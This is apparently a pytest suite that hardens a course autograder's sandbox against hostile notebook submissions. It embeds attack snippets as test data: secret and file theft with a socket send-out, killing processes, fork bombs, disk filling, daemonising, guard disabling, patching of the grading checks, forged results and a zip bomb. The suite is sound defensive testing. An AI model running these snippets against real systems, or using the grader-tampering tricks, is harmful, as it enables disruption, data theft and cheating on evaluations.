"""A hostile class graded with --jobs 2: each threat of the sandbox, tried by a submission of its own.

Honest students are graded alongside; every one of them must get full points and an intact
report, whatever the others do, and nothing outside the sandboxes may change. Then the sandbox's
walls one by one, in one small kernel (768 MiB, 64 processes): an empty environment, an
unprivileged uid, a read-only / and /dev, size-capped tmpfs, one memory cgroup for all its
processes (or no processes at all where none can be made), the seccomp filter, no nested user
namespace, no path in /proc/1/cmdline, replies and output bounded before the grader holds them;
and the grader's side: links refused, names from the paths as given, a stuck cell costing only
itself, a .pth/editable install. Every limit is small and every timeout short: no test here can
take the machine's memory or time.
"""

import base64
import errno
import hashlib
import io
import json
import os
import secrets
import socket
import subprocess
import sys
import threading
import zipfile
from pathlib import Path

import nbformat
import pytest

from conftest import require_system
from symml import checks
from symml.checks.forbidden import GUARD
from symml.course import points

ROOT = Path(__file__).resolve().parent.parent
LESSON = "04"
SOLUTION = next((ROOT / "solutions").glob(f"{LESSON}_*.ipynb"))
MARKER = f"symml-leftover-{secrets.token_hex(4)}"
SECRET = f"symml-secret-{secrets.token_hex(8)}"  # in the grader's environment: no student may read it
REFERENCES = "from symml.checks.lesson04 import cg_from_casimir as _ref1, count_paths as _ref3\n"
CHEATS = {  # the two function exercises answered by the shipped references, after a switch-off
    "switchoff": REFERENCES + """import sys, threading
def cg_from_casimir(l1, l2, l3):
    sys.setprofile(None)
    return _ref1(l1, l2, l3)
cg_from_casimir = check("04.1", cg_from_casimir)
def count_paths(a, b, c):
    threading.setprofile(None)
    out = []
    t = threading.Thread(target=lambda: out.append(_ref3(a, b, c)))
    t.start(); t.join()
    return out[0]
count_paths = check("04.3", count_paths)
""",
    "cheat": REFERENCES + """def cg_from_casimir(l1, l2, l3):
    return _ref1(l1, l2, l3)
cg_from_casimir = check("04.1", cg_from_casimir)
def count_paths(a, b, c):
    return _ref3(a, b, c)
count_paths = check("04.3", count_paths)
""",
    # the spy's findings end up in its own report, as the message of an error
    "leak": """import os
found = [v for p in ["1", "self"] + os.listdir("/proc") for v in (open(f"/proc/{p}/environ").read().split("\\0") if os.path.exists(f"/proc/{p}/environ") else []) if "SYMML_TEST_SECRET" in v]
found += [k for k in os.environ if k == "SYMML_TEST_SECRET"]
def count_paths(a, b, c):
    raise ValueError("LEAK " + repr(found)[:150])
count_paths = check("04.3", count_paths)
""",
}

HOSTILE = {
    # rewrite the package, the solutions, the gradebook and another student's notebook
    "rewriter": """
import pathlib, symml.checks
for target in [pathlib.Path(symml.checks.__file__).parent / "lesson{lesson}.py", pathlib.Path({solution!r}), pathlib.Path({gradebook!r}),
               pathlib.Path({honest!r}), pathlib.Path({secret!r})]:
    try:
        target.write_text("hacked")
    except Exception as e:
        print(type(e).__name__)
""",
    # read the instructor's files and other submissions, and send them out (a file in /tmp, the network)
    "spy": """
import os, pathlib, socket
found = []
for p in [{secret!r}, {honest!r}, {submitted!r}]:
    try:
        found.append(pathlib.Path(p).read_text()[:100] if not os.path.isdir(p) else str(os.listdir(p)))
    except Exception as e:
        found.append(type(e).__name__)
for where in [{leak!r}, "/tmp/symml-leak-inside"]:
    try:
        pathlib.Path(where).write_text(repr(found))
    except Exception as e:
        print(type(e).__name__)
try:
    s = socket.create_connection(("127.0.0.1", {port}), timeout=3)
    s.sendall(repr(found).encode())
except Exception as e:
    print(type(e).__name__)
""",
    # overwrite the other students' reports
    "vandal": """
import pathlib
for p in [{honest_report!r}, {feedback!r} + "/honest2"]:
    try:
        pathlib.Path(p).parent.mkdir(parents=True, exist_ok=True)
        pathlib.Path(p).write_text("# 0 points")
    except Exception as e:
        print(type(e).__name__)
""",
    # kill every process it can see, and its parent
    "killer": """
import os, signal
for pid in [os.getppid()] + list(range(2, 5000)):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except Exception:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except Exception:
    pass
""",
    # leave processes running after grading: a child in a new session, and a daemon (double fork)
    "lingerer": """
import os, subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)", {marker!r}], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(3600)", {marker!r}])
    os._exit(0)
""",
    # fill the disk: big files in its home, /tmp and /dev/shm, and thousands of small ones
    "filler": """
import os
chunk = b"0" * 2**20
for where in ["big", "/tmp/big", "/dev/shm/big"]:
    try:
        with open(where, "wb") as f:
            for _ in range(20_000):
                f.write(chunk)
    except Exception as e:
        print(type(e).__name__)
for i in range(20_000):
    try:
        open(f"/tmp/small{{i}}", "w").write("x" * 100)
    except Exception:
        break
""",
    # switch the forbidden-call guard off in an earlier cell: every profile becomes none
    "replacer": """
import sys
_real_setprofile = sys.setprofile
sys.setprofile = lambda f: _real_setprofile(None)
""",
    # patch the kernel's symml.checks so that the probe, if it used it, would see no shortcut
    "patcher": """
import symml.checks, symml.checks.forbidden as _f
_f.Tripwire.__enter__ = lambda self: self
_f.Tripwire.__exit__ = lambda self, *a: False
_f.Tripwire.answer_is_forbidden = lambda self, answer: None
symml.checks.run_answer = lambda ex, answer, cases, *a, **k: [("ok", ex.reference(*c.args)) for c in cases]
""",
    # replace the reply: torch.save (and load, to learn the cases) rewrite it with the references' outputs
    "forger": """
import torch, IPython.display
from symml.checks.lesson04 import cg_from_casimir as _r1, count_paths as _r3
_load, _save, _seen = torch.load, torch.save, []
def _my_load(*a, **k):
    x = _load(*a, **k)
    _seen.append(x)
    return x
def _my_save(obj, f, *a, **k):
    if isinstance(obj, dict) and "results" in obj:
        cases = _seen[-len(obj["results"]):]
        obj = dict(obj, replaced=[], results=[[("ok", (_r1 if isinstance(args[0], int) else _r3)(*args)) for args in c] for c in cases])
    return _save(obj, f, *a, **k)
torch.load, torch.save = _my_load, _my_save
IPython.display.publish_display_data = IPython.display.publish_display_data
""",
    # hundreds of processes
    "forker": """
import os, time
children = 0
for _ in range(2000):
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        children += 1
    except OSError:
        break
print(children)
""",
}


def fresh(nb):
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.outputs, cell.execution_count = [], None
    return nb


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def leftovers() -> list[str]:
    found = []
    for pid in os.listdir("/proc"):
        try:
            if pid.isdigit() and MARKER.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                found.append(pid)
        except OSError:
            pass
    return found


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    require_system("bwrap")
    folder = tmp_path_factory.mktemp("hostile")
    submitted = folder / "submitted"
    out = folder / "grades.csv"
    feedback = folder / "grades-feedback"
    honest_paths = []
    for student in ("honest1", "honest2", "honest3"):
        path = submitted / student / SOLUTION.stem / SOLUTION.name
        path.parent.mkdir(parents=True)
        nbformat.write(fresh(nbformat.read(SOLUTION, as_version=4)), path)
        honest_paths.append(path)

    connections = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.5)
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                connections.append(conn.recv(1000))
            except OSError:
                continue

    threading.Thread(target=accept, daemon=True).start()
    leak = Path("/tmp") / f"symml-leak-{secrets.token_hex(4)}"
    secret = folder / "instructor" / "notes.txt"  # a file of the instructor's, beside the class
    secret.parent.mkdir()
    secret.write_text("the answers to next week's exam")
    values = {"lesson": LESSON, "solution": str(SOLUTION), "gradebook": str(out.with_suffix(".json")), "honest": str(honest_paths[0]),
              "secret": str(secret), "submitted": str(submitted), "leak": str(leak), "port": server.getsockname()[1],
              "honest_report": str(feedback / "honest1" / SOLUTION.stem / (SOLUTION.stem + ".md")), "feedback": str(feedback), "marker": MARKER}
    for student, code in HOSTILE.items():
        nb = fresh(nbformat.read(SOLUTION, as_version=4))
        nb.cells.insert(0, nbformat.v4.new_code_cell(code.format(**values)))
        if student in ("replacer", "patcher"):
            nb.cells.append(nbformat.v4.new_code_cell(CHEATS["cheat"]))
        if student == "forger":  # blank answers: the reply would be all the forger has
            nb = blank(nb)
        path = submitted / student / SOLUTION.stem / SOLUTION.name
        path.parent.mkdir(parents=True)
        nbformat.write(nb, path)
    for student in ("switchoff", "leak"):  # the cheat after the honest cells: it is what check() saw last
        nb = fresh(nbformat.read(SOLUTION, as_version=4))
        nb.cells.append(nbformat.v4.new_code_cell(CHEATS[student]))
        path = submitted / student / SOLUTION.stem / SOLUTION.name
        path.parent.mkdir(parents=True)
        nbformat.write(nb, path)
    # a cell that takes its kernel down, after the setup cells: the later answers must still count
    nb = fresh(nbformat.read(SOLUTION, as_version=4))
    first_answer = next(k for k, c in enumerate(nb.cells) if "def cg_from_casimir" in c.source)
    nb.cells.insert(first_answer, nbformat.v4.new_code_cell("import os\nos._exit(1)"))
    path = submitted / "crasher" / SOLUTION.stem / SOLUTION.name
    path.parent.mkdir(parents=True)
    nbformat.write(nb, path)
    # a link to the solutions, handed in as a notebook
    link = submitted / "linker" / SOLUTION.stem / SOLUTION.name
    link.parent.mkdir(parents=True)
    link.symlink_to(SOLUTION)
    protected = [SOLUTION, secret, Path(checks.__file__).parent / f"lesson{LESSON}.py", *honest_paths]
    before = {p: digest(p) for p in protected}
    cmd = [sys.executable, "-m", "symml", "grade", str(submitted), "--out", str(out), "--quiet", "--jobs", "2", "--cell-timeout", "120"]
    result = subprocess.run(cmd, capture_output=True, text=True, timeout=3000, env=os.environ | {"SYMML_TEST_SECRET": SECRET})
    stop.set()
    return {"result": result, "book": json.loads(out.with_suffix(".json").read_text()), "before": before, "connections": connections,
            "leak": leak, "feedback": feedback, "out": out}


def blank(nb):
    """The notebook with every solution region replaced by what the student version has (NotImplementedError / ...)."""
    import re

    region = re.compile(r"^([ \t]*)### BEGIN SOLUTION[^\n]*\n(.*?)^[ \t]*### END SOLUTION[^\n]*$", re.S | re.M)
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.source = region.sub(lambda m: m.group(1) + ("raise NotImplementedError" if m.group(1) else "self_product = ..."), cell.source)
    return nb


def rows(book):
    return {r["student"]: r for r in book.values()}


def test_the_run_finishes_and_every_submission_has_its_row(hostile_class):
    assert hostile_class["result"].returncode == 0, hostile_class["result"].stderr[-3000:]
    students = {"honest1", "honest2", "honest3", *HOSTILE, "switchoff", "leak", "crasher", "linker"}
    assert set(rows(hostile_class["book"])) == students  # the link's target did not rename anyone
    csv_rows = hostile_class["out"].read_text().splitlines()
    assert len(csv_rows) == 1 + len(students)


def test_honest_students_get_full_points_and_their_reports(hostile_class):
    full = points.split(LESSON)["graded_points"]  # predictions are formative: 0 of 0 points
    for student in ("honest1", "honest2", "honest3"):
        r = rows(hostile_class["book"])[student]
        assert r["points"] == r["max_points"] == full, r
        assert r["reason"] == "", r["reason"]
        report = (hostile_class["feedback"] / student / SOLUTION.stem / (SOLUTION.stem + ".md")).read_text()
        assert f"{full:g} / {full:g} points" in report.splitlines()[0]


def test_nothing_outside_the_sandbox_changed(hostile_class):
    for path, before in hostile_class["before"].items():
        assert digest(path) == before, f"{path} was changed"
    assert not hostile_class["leak"].exists(), "a file was written to the machine's /tmp"
    assert not Path("/tmp/symml-leak-inside").exists()
    assert hostile_class["connections"] == [], "a submission reached a server on the machine's loopback"


def test_nothing_is_left_running(hostile_class):
    assert leftovers() == [], f"processes left behind: {leftovers()}"


def test_the_hostile_ones_only_hurt_themselves(hostile_class):
    # their attacks sit beside the honest answers: each is graded in full, as if the attack were not there
    r = rows(hostile_class["book"])
    full = points.split(LESSON)["graded_points"]  # predictions are formative: 0 of 0 points
    for student in ("killer", "forker"):  # (the forker's children share its memory cap: its kernel may die of them)
        assert "died" in r[student]["reason"] or r[student]["points"] == full, r[student]
    for student in ("rewriter", "spy", "vandal", "lingerer", "filler"):
        assert r[student]["points"] == full, (student, r[student])
        assert all(e["status"] == "passed" for e in r[student]["exercises"].values()), (student, r[student])


FUNCTIONS = ("04.1", "04.3")  # the function exercises; 04.2 (a prediction) is answered honestly by all


def test_the_guard_cannot_be_switched_off_in_grading(hostile_class):
    r = rows(hostile_class["book"])
    for student, how in (("switchoff", "setprofile"), ("replacer", "a replaced sys.setprofile")):
        for exercise_id in FUNCTIONS:
            e = r[student]["exercises"][exercise_id]
            assert e["status"] == "failed" and GUARD in e["message"] and how in e["message"], (student, exercise_id, e)


def test_patching_the_kernels_checks_does_not_reach_the_probe(hostile_class):
    r = rows(hostile_class["book"])["patcher"]
    for exercise_id in FUNCTIONS:
        e = r["exercises"][exercise_id]
        assert e["status"] == "failed" and "reference solution" in e["message"], e


def test_a_forged_reply_is_not_accepted_and_is_named_in_the_report(hostile_class):
    r = rows(hostile_class["book"])["forger"]
    assert all(r["exercises"][e]["points"] == 0 for e in FUNCTIONS), r
    assert "torch.save" in r["reason"] and "replaced" in r["reason"], r["reason"]
    report = (hostile_class["feedback"] / "forger" / SOLUTION.stem / (SOLUTION.stem + ".md")).read_text()
    assert "torch.save" in report


def test_the_graders_environment_is_out_of_reach(hostile_class):
    r = rows(hostile_class["book"])["leak"]
    assert "LEAK []" in r["exercises"]["04.3"]["message"], r["exercises"]["04.3"]  # it looked, and found nothing
    everything = hostile_class["out"].with_suffix(".json").read_text() + "".join(p.read_text() for p in hostile_class["feedback"].rglob("*.md"))
    assert SECRET not in everything


def test_a_cell_that_kills_its_kernel_costs_only_itself(hostile_class):
    r = rows(hostile_class["book"])["crasher"]
    full = points.split(LESSON)["graded_points"]  # predictions are formative: 0 of 0 points
    assert r["points"] == full, r
    assert "restarted" in r["reason"] and "run again" in r["reason"], r["reason"]


def test_a_link_is_refused_with_the_reason(hostile_class):
    r = rows(hostile_class["book"])["linker"]
    assert r["points"] == 0 and "symbolic link" in r["reason"], r
    assert (hostile_class["feedback"] / "linker" / SOLUTION.stem / (SOLUTION.stem + ".md")).exists()  # its report is where the link is


# ---------------------------------------------------------------- the walls, one by one, in a small kernel

MEMORY, PROCESSES = 768 * 2**20, 64


def run_in(kernel, code: str, timeout: float = 60) -> dict:
    """Run ``code`` in the kernel; it ends by ``publish_display_data({"application/json": result})``: return that result."""
    seen = []
    status, detail, _ = kernel.run(code, timeout, on_display=lambda data: seen.append(data.get("application/json")))
    assert status == "ok", (status, detail)
    return seen[-1]


def send(expression: str) -> str:
    return f"\nfrom IPython.display import publish_display_data as _p\n_p({{'application/json': {expression}}})\n"


@pytest.fixture(scope="module")
def kernel():
    require_system("bwrap")
    from symml.course.kernel import Kernel

    os.environ["SYMML_TEST_SECRET"] = SECRET  # in the grader's environment while the sandbox starts
    try:
        k = Kernel(MEMORY, PROCESSES)
    finally:
        del os.environ["SYMML_TEST_SECRET"]
    yield k
    k.close()


def test_bwrap_starts_with_an_empty_environment(kernel):
    found = run_in(kernel, "import os\nenv1 = open('/proc/1/environ').read()\nmine = dict(os.environ)" + send("[env1, mine]"))
    assert found[0] == "", found[0]  # the sandbox's pid 1 is bwrap: with the grader's environment it would show it all
    assert SECRET not in json.dumps(found) and "SYMML_TEST_SECRET" not in found[1]


def test_the_student_is_an_unprivileged_uid(kernel):
    ids = run_in(kernel, "import os" + send("[os.getuid(), os.geteuid(), os.getgid(), open('/proc/self/status').read().split('CapEff:')[1].split()[0]]"))
    assert ids[:3] == [65534, 65534, 65534] and int(ids[3], 16) == 0, ids


def test_root_and_dev_are_read_only(kernel):
    code = """
import errno
found = {}
for p in ["/x", "/dev/x", "/usr/x", "/etc/x"]:
    try:
        open(p, "w").write("1")
        found[p] = "written"
    except OSError as e:
        found[p] = errno.errorcode.get(e.errno, str(e.errno))
""" + send("found")
    found = run_in(kernel, code)
    assert found["/x"] == found["/dev/x"] == "EROFS", found  # read-only mounts, not just a permission that root inside would pass
    assert all(v != "written" for v in found.values()), found


def test_every_writable_tmpfs_is_size_capped(kernel):
    code = """
import os
found = []
for line in open("/proc/self/mounts"):
    dev, where, kind, opts = line.split()[:4]
    if kind == "tmpfs" and "rw" in opts.split(","):
        st = os.statvfs(where)
        found.append([where, st.f_blocks * st.f_frsize])
""" + send("found")
    found = dict(run_in(kernel, code))
    assert {"/tmp", "/home/student", "/dev/shm", "/ipc"} <= set(found), found
    assert all(size <= 256 * 2**20 for size in found.values()), found
    got = run_in(kernel, """
import errno
try:
    with open("/dev/shm/big", "wb") as f:
        for _ in range(80):
            f.write(b"0" * 2**20)
    r = "80 MiB written"
except OSError as e:
    r = errno.errorcode[e.errno]
import os
os.remove("/dev/shm/big")""" + send("r"))
    assert got == "ENOSPC", got


def test_one_memory_cgroup_holds_the_whole_sandbox(kernel):
    group = kernel.group
    if os.geteuid() != 0 and group.memory_path is None:
        pytest.skip("no memory cgroup can be made by this user here (the no-process fallback is tested below)")
    assert group.memory_path is not None and group.pids_path is not None
    pid = kernel.sandbox.sandbox_pid(kernel.proc.pid)
    assert str(pid) in (group.memory_path / "cgroup.procs").read_text().split()
    limits = [f for f in ("memory.max", "memory.limit_in_bytes") if (group.memory_path / f).exists()]
    assert int((group.memory_path / limits[0]).read_text()) == MEMORY
    for swap in ("memory.swap.max", "memory.memsw.limit_in_bytes"):  # swap off: memory plus swap is the memory
        if (group.memory_path / swap).exists():
            assert int((group.memory_path / swap).read_text()) in (0, MEMORY)


def test_ptrace_and_friends_are_refused(kernel):
    code = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
out = {}
def call(name, *args):
    r = getattr(libc, name)(*args) if name != "keyctl" else libc.syscall(250, *args)  # x86_64's keyctl: no libc wrapper
    out[name] = 0 if r >= 0 else ctypes.get_errno()
buf = ctypes.create_string_buffer(8)
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
local, remote = iovec(ctypes.cast(buf, ctypes.c_void_p), 8), iovec(ctypes.cast(buf, ctypes.c_void_p), 8)
call("process_vm_readv", os.getpid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)  # its own memory: allowed without a filter
call("ptrace", 16, 1, 0, 0)          # PTRACE_ATTACH to pid 1
call("unshare", 0x10000000)          # CLONE_NEWUSER
call("keyctl", 0, -1, 0)             # KEYCTL_GET_KEYRING_ID
import subprocess, sys  # clone(CLONE_NEWUSER) in a child: the filter lets clone through, --disable-userns must refuse it
nested = "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); r = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)\\nif r == 0: os._exit(0)\\nprint(r, ctypes.get_errno())"
try:
    out["clone_newuser"] = subprocess.run([sys.executable, "-c", nested], capture_output=True, text=True, timeout=60).stdout.split()
except OSError as e:
    out["clone_newuser"] = ["no process", e.errno]
""" + send("out")
    found = run_in(kernel, code)
    if kernel.sandbox.seccomp_filter() is None:
        pytest.skip("no seccomp filter on this machine (x86_64 only)")
    for name in ("process_vm_readv", "ptrace", "unshare", "keyctl"):
        assert found[name] == errno.EPERM, (name, found)
    if found["clone_newuser"][0] != "no process":  # (where no memory cgroup exists, no child may start at all)
        assert found["clone_newuser"] == ["-1", str(errno.ENOSPC)], found  # --disable-userns: no nested user namespace


def test_proc_1_cmdline_names_no_path_of_the_machine(kernel):
    cmdline = run_in(kernel, "" + send("open('/proc/1/cmdline').read().split(chr(0))"))
    text = " ".join(cmdline)
    assert "--args" in cmdline and "--ro-bind" not in text, text  # the options (every mount's source) came through a memory file
    assert str(ROOT) not in text and str(kernel.folder) not in text and sys.prefix not in text and os.path.realpath(sys.executable) not in text, text


def test_a_print_flood_is_dropped_before_the_grader_holds_it(kernel):
    # one message of 80 MiB: over the client's limit, ZeroMQ drops it unread (the cell then times out)
    status, detail, printed = kernel.run("print('x' * (80 * 2**20))", 20)
    assert printed == 0, printed
    assert run_in(kernel, "" + send("1 + 1")) == 2  # the kernel (restarted if need be) still answers


def test_children_share_one_memory_cap():
    require_system("bwrap")
    from symml.course.kernel import Kernel

    k = Kernel(MEMORY, PROCESSES)
    try:
        if k.group.memory_path is None:
            pytest.skip("no memory cgroup here: the sandbox may start no process (tested below)")
        code = """
import subprocess, sys
children = [subprocess.Popen([sys.executable, "-c", "b = bytearray(300 * 2**20); import time; time.sleep(4); print('held')"],
                             stdout=subprocess.PIPE, text=True) for _ in range(3)]
held = [c.communicate(timeout=60)[0].strip() == "held" for c in children]
""" + send("held")
        seen = []
        status, detail, _ = k.run(code, 90, on_display=lambda data: seen.append(data.get("application/json")))
        # 3 × 300 MiB plus the kernel is over 768 MiB: someone is killed (a child, or the kernel itself)
        assert status == "died" or (seen and sum(seen[-1]) < 3), (status, detail, seen)
        peak = k.group.peak()
        assert peak is None or peak <= MEMORY
    finally:
        k.close()


def test_without_a_memory_cgroup_the_sandbox_starts_no_process(monkeypatch):
    require_system("bwrap")
    from symml.course import sandbox
    from symml.course.kernel import Kernel

    monkeypatch.setattr(sandbox, "CONTROLLERS", ("pids",))  # as where no memory cgroup can be made
    k = Kernel(MEMORY, PROCESSES)
    try:
        assert k.group.memory_path is None
        code = """
import errno, os, subprocess, sys, threading
out = {}
t = threading.Thread(target=lambda: out.setdefault("thread", "ran")); t.start(); t.join()
for name, start in [("fork", os.fork), ("spawn", lambda: subprocess.run([sys.executable, "-c", "pass"]))]:
    try:
        pid = start()
        if pid == 0:
            os._exit(0)
        out[name] = "started"
    except OSError as e:
        out[name] = errno.errorcode[e.errno]
""" + send("out")
        found = run_in(k, code)
        if sandbox.seccomp_filter() is None:
            pytest.skip("no seccomp filter on this machine (x86_64 only)")
        assert found == {"thread": "ran", "fork": "EPERM", "spawn": "EPERM"}, found
    finally:
        k.close()


# ---------------------------------------------------------------- replies, links, restarts, installs


def reply_zip(obj, compress=False) -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save(obj, buffer)
    if not compress:
        return buffer.getvalue()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for entry in src.infolist():
            dst.writestr(entry.filename, src.read(entry.filename))
    return out.getvalue()


def test_a_reply_is_bounded_before_it_is_inflated():
    import torch

    from symml.course.grade import load_reply

    honest = {"nonce": "n", "results": [[("ok", torch.ones(3))]], "replaced": []}
    assert torch.equal(load_reply(reply_zip(honest))["results"][0][0][1], torch.ones(3))
    bomb = reply_zip({"results": [[("ok", torch.zeros(2**21))]]}, compress=True)  # 16 MiB of zeros in a few KiB
    assert len(bomb) < 2**17
    with pytest.raises(ValueError, match="compressed"):
        load_reply(bomb, limit=2**20)
    with pytest.raises(ValueError, match="entries of more than"):
        load_reply(reply_zip({"results": [[("ok", torch.zeros(2**18))]]}), limit=2**20)  # 2 MiB stored, 1 MiB allowed
    view = torch.zeros(1).expand(2**30)  # one float claiming a billion: 8 GiB once judged
    with pytest.raises(ValueError, match="tensors of more than"):
        load_reply(reply_zip({"results": [[("ok", view)]]}), limit=2**20)
    with pytest.raises(zipfile.BadZipFile):
        load_reply(b"not a zip at all")


def test_links_are_refused_and_names_come_from_the_paths_as_given(tmp_path):
    from symml.course.grade import Options, Refused, common_root, grade_submission, student_of, submissions

    outside = tmp_path / "instructor" / "solutions"
    outside.mkdir(parents=True)
    (outside / "04_x.ipynb").write_text(SOLUTION.read_text())
    cls = tmp_path / "class" / "submitted"
    for name in ("alice", "bob"):
        (cls / name / "04").mkdir(parents=True)
    (cls / "alice" / "04" / "04_x.ipynb").write_text(SOLUTION.read_text())
    (cls / "bob" / "04" / "04_x.ipynb").symlink_to(outside / "04_x.ipynb")  # bob hands in a link to the solutions
    (cls / "carol").symlink_to(outside, target_is_directory=True)  # and a linked folder
    found = submissions([cls.parent])
    assert [type(p) is Refused for p in found] == [False, True, True], found
    assert "symbolic link" in found[1].reason
    root = common_root(found)
    assert root == cls.resolve()  # not widened to tmp_path by the link's target
    assert [student_of(p, root) for p in found] == ["alice", "bob", "carol"]
    assert "linked folder" in found[2].reason
    row = grade_submission(found[1], "bob", Options())  # refused before any kernel starts
    assert row["points"] == 0 and "symbolic link" in row["reason"]
    explicit = submissions([cls / "bob" / "04" / "04_x.ipynb"])
    assert type(explicit[0]) is Refused


def test_a_cell_that_swallows_the_interrupt_costs_only_itself(tmp_path):
    require_system("bwrap")
    from symml.course.grade import Options, grade_submission

    nb = fresh(nbformat.read(SOLUTION, as_version=4))
    setup = next(c for c in nb.cells if c.cell_type == "code" and "import torch" in c.source)
    answer = next(c for c in nb.cells if c.cell_type == "code" and "def count_paths" in c.source)
    hang = "import time\nwhile True:\n    try:\n        time.sleep(60)\n    except BaseException:\n        pass"
    cells = [setup.source, hang, answer.source, 'count_paths = check("04.3", count_paths)']
    small = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(c) for c in cells])
    path = tmp_path / "04_hang.ipynb"
    nbformat.write(small, path)
    row = grade_submission(path, "hang", Options(cell_timeout=8, timeout=240, memory=MEMORY, processes=PROCESSES))
    assert row["exercises"]["04.3"]["status"] == "passed", row  # its imports came back with the re-run of cell 1
    assert "cell 2: timeout" in row["reason"] and "cells 1 were run again" in row["reason"], row["reason"]


def test_the_sandbox_works_in_a_venv_whose_packages_come_through_pth_files(tmp_path):
    require_system("bwrap")
    import site
    import sysconfig

    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True, timeout=120)
    purelib = next((venv / "lib").glob("python3*/site-packages"))
    (purelib / "outer.pth").write_text(sysconfig.get_paths()["purelib"] + "\n")  # torch, jupyter… live elsewhere
    (purelib / "symml_editable.pth").write_text(str(ROOT) + "\n")  # an editable checkout, solutions and all
    code = """
import json, sys
from symml.course.kernel import Kernel
k = Kernel(%d, %d)
seen = []
status = k.run("import symml, torch, e3nn\\nmounts = open('/proc/self/mountinfo').read()\\nfrom IPython.display import publish_display_data as p\\np({'application/json': [symml.__file__, mounts]})", 120, on_display=lambda d: seen.append(d.get('application/json')))
k.close()
print(json.dumps([status, seen]))
""" % (MEMORY, PROCESSES)
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    result = subprocess.run([str(venv / "bin" / "python"), "-c", code], capture_output=True, text=True, timeout=300, env=env, cwd=tmp_path)
    assert result.returncode == 0, result.stderr[-2000:]
    status, seen = json.loads(result.stdout.strip().splitlines()[-1])
    assert status[0] == "ok", status
    module, mounts = seen[0]
    assert module == "/opt/symml/symml/__init__.py"
    mount_points = [line.split()[4] for line in mounts.splitlines()]
    assert str(ROOT) not in mount_points and not any(m.startswith(str(ROOT / "solutions")) for m in mount_points), mount_points


def fake_cgroup_v2(root, monkeypatch):
    """A stand-in for /sys/fs/cgroup under cgroup v2 (plain files), this process in ``/grader``: the logic, not the kernel's side."""
    from symml.course import sandbox

    (root / "grader").mkdir(parents=True)
    (root / "cgroup.controllers").write_text("cpu memory pids\n")
    (root / "grader" / "cgroup.subtree_control").write_text("\n")
    monkeypatch.setattr(sandbox, "_own_cgroups", lambda: {"": "/grader"})
    return root


def test_cgroup_v2_gets_memory_without_swap_and_pids_in_one_group(tmp_path, monkeypatch):
    from symml.course import sandbox

    root = fake_cgroup_v2(tmp_path / "cgroup", monkeypatch)
    group = sandbox.Cgroup(MEMORY, PROCESSES, root=root)
    assert group.memory_path == group.pids_path and group.memory_path.parent == root / "grader"
    read = lambda name: (group.memory_path / name).read_text()
    assert (read("memory.max"), read("memory.swap.max"), read("pids.max")) == (str(MEMORY), "0", str(PROCESSES))


def test_cgroup_cpu_quota_is_written_only_when_asked_v1_and_v2(tmp_path, monkeypatch):
    # bench_notebooks runs each notebook under one CPU's quota, as Binder gives; a sandbox asks for none
    from symml.course import sandbox

    v2 = fake_cgroup_v2(tmp_path / "v2", monkeypatch)
    assert "cpu" not in sandbox.Cgroup(MEMORY, PROCESSES, root=v2).paths
    group = sandbox.Cgroup(MEMORY, PROCESSES, root=v2, cpus=1.5)
    assert (group.paths["cpu"] / "cpu.max").read_text() == "150000 100000"
    assert "+cpu" in (v2 / "grader" / "cgroup.subtree_control").read_text()

    v1 = tmp_path / "v1"
    for controller in ("memory", "pids", "cpu"):
        (v1 / controller / "grader").mkdir(parents=True)
    monkeypatch.setattr(sandbox, "_own_cgroups", lambda: {"memory": "/grader", "pids": "/grader", "cpu": "/grader"})
    group = sandbox.Cgroup(MEMORY, PROCESSES, root=v1, cpus=1)
    assert group.paths["cpu"].parent == v1 / "cpu" / "grader"
    assert [(group.paths["cpu"] / f).read_text() for f in ("cpu.cfs_quota_us", "cpu.cfs_period_us")] == ["100000", "100000"]
